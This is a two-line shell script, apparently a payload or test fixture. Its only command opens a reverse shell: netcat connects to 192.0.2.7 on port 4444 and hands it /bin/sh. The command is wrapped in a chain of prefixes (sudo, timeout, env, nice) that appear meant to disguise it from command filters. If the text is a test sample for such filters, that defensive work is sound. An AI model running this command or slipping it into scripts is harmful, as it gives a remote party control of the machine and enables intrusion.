#!/bin/sh
sudo -u nobody timeout 60 env X=1 nice nc 192.0.2.7 4444 -e /bin/sh
